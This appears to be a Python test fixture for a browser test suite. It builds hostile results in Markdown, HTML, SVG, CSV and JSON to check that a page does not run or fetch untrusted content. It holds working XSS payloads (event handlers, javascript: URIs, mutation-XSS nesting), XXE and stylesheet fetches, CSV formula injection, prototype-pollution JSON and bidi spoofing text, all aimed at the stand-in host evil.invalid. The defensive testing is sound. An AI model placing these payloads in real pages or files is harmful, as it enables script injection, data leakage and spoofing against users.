"""Texts and results that would do harm in a page that trusts them. Each tries to run a script or to fetch something.

A script that ran would set `window.ran`, name the tab HARMED or open a dialog; fetches would go ELSEWHERE.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

from tests.browser.plans import plan, printing

ELSEWHERE = "http://evil.invalid"
HARMED = "harmed"
SCRIPT = f"window.ran=1;document.title='{HARMED}';alert('{HARMED}');fetch('{ELSEWHERE}/script')"

MARKUP = "\n".join(
    (
        f'<script>{SCRIPT}</script><img src=x onerror="{SCRIPT}">',
        f'<svg onload="{SCRIPT}"><script>{SCRIPT}</script></svg>',
        f'<a href="javascript:{SCRIPT}">press me</a><iframe src="javascript:{SCRIPT}"></iframe>',
        f'<iframe srcdoc="<script>{SCRIPT}</script>"></iframe><img src="{ELSEWHERE}/image">',
        f'<link rel="stylesheet" href="{ELSEWHERE}/style"><style>@import "{ELSEWHERE}/import";',
        f"body{{display:none;background:url({ELSEWHERE}/background)}}</style>",
        f'<form action="{ELSEWHERE}/form"><button>Approve</button></form><base href="{ELSEWHERE}/">',
        f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/refresh"><object data="{ELSEWHERE}/object"></object>',
        f'<embed src="{ELSEWHERE}/embed"><video src="{ELSEWHERE}/video" onerror="{SCRIPT}"></video>',
        f'<details open ontoggle="{SCRIPT}"></details>',
        f'<math><mtext><table><mglyph><style><img src=x onerror="{SCRIPT}"></style></mglyph></table></mtext></math>',
    )
)

MARKDOWN = f"""# A title <img src=x onerror="{SCRIPT}">

{MARKUP}

[a link](javascript:{SCRIPT}) [another](data:text/html,<script>{SCRIPT}</script>) [third](vbscript:x)
![a picture]({ELSEWHERE}/picture.png) ![second](javascript:{SCRIPT})
<{ELSEWHERE}/auto> [fine]({ELSEWHERE}/page)

| a | b |
|---|---|
| <img src=x onerror="{SCRIPT}"> | ![x]({ELSEWHERE}/cell.png) |

```html
{MARKUP}
```
"""

SVG = "\n".join(
    (
        f'<?xml version="1.0"?><?xml-stylesheet href="{ELSEWHERE}/xsl" type="text/xsl"?>',
        f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{ELSEWHERE}/entity">]>',
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="{SCRIPT}">',
        f'<script>{SCRIPT}</script><image href="{ELSEWHERE}/image"/><use xlink:href="{ELSEWHERE}/use#a"/>',
        f'<a xlink:href="javascript:{SCRIPT}"><text>x</text></a>',
        f'<foreignObject><iframe src="{ELSEWHERE}/frame"></iframe></foreignObject></svg>',
    )
)

_BIDI = "The sum is \u202e000,1\u202c euro\u2066 and\u200b so\u2069 on\u001b[31m\u0007, pa\u00ady\ufeff now"
_CSV = f'name,sum\n"=HYPERLINK(""{ELSEWHERE}/csv"")",1\n"{MARKUP.replace(chr(34), chr(34) * 2)}",2\n'
_JSON = '{"__proto__": {"ran": 1}, "constructor": {"prototype": {"ran": 1}}, "a": "<img src=x onerror=alert(1)>"}'

#: By task: the form that it promises, and what it is instead.
RESULTS: Mapping[str, tuple[str, str]] = {
    "markdown": ("Markdown", MARKDOWN),
    "html": ("HTML", MARKUP),
    "svg": ("SVG", SVG),
    "text": ("text", MARKUP + _BIDI),
    "csv": ("CSV", _CSV),
    "json": ("JSON", _JSON),
    "code": ("JavaScript code", SCRIPT),
    "deep": ("JSON", "[\n" * 500 + '"a word at the bottom"' + "\n]" * 500),
    "long": ("Markdown", "\n".join(f"- {n} <b onclick='{SCRIPT}'>{'x' * 200}" for n in range(400))),
}


def hostile_plan() -> Mapping[str, Any]:
    """Returns a plan whose texts and results are all hostile."""
    tasks = [
        printing(name, content, form=form, description=f"{MARKUP} {_BIDI} {name}")
        for name, (form, content) in RESULTS.items()
    ]
    return plan(*tasks, idea=f"{MARKUP} {_BIDI}")
